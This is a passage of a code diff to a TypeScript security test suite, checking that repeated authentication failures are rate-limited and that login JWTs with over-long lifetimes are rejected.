+        { TRUST_PROXY: 'false', AUTH_FAILURES_PER_MINUTE: '3', REDIS_PREFIX: `${testEnv.redisPrefix}_direct` },
+        `api-sec-direct-${uniq()}`,
+      );
       try {
         for (let i = 0; i < 3; i++) assertUnauthorized(await list(randomKey(), newClient(), direct.baseUrl));
         assertError(await list(await freshKey(), newClient(), direct.baseUrl), 429, 'rate_limited');
@@ -685,7 +906,13 @@ describe('security (issue 12: attacks replayed)', function () {
 
     it('refuses login JWTs meant to live longer than JWT_MAX_LIFETIME_S (24 h), however the lifetime is stated', async () => {
       const key = testEnv.jwks.key;
-      const claims = { iss: testEnv.jwks.issuer, aud: testEnv.jwks.audience, sub: 'user-1', org: orgA.organizationId, role: 'owner' };
+      const claims = {
+        iss: testEnv.jwks.issuer,
+        aud: testEnv.jwks.audience,
+        sub: 'user-1',
+        org: orgA.organizationId,
+        role: 'owner',
+      };
       const at = (token: string) => call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts`, { token });
       assertUnauthorized(await at(rawJwt(key, { ...claims, iat: nowS(), exp: 1e300 })));
       assertUnauthorized(await at(rawJwt(key, { ...claims, iat: nowS(), exp: nowS() + 25 * 3600 })));
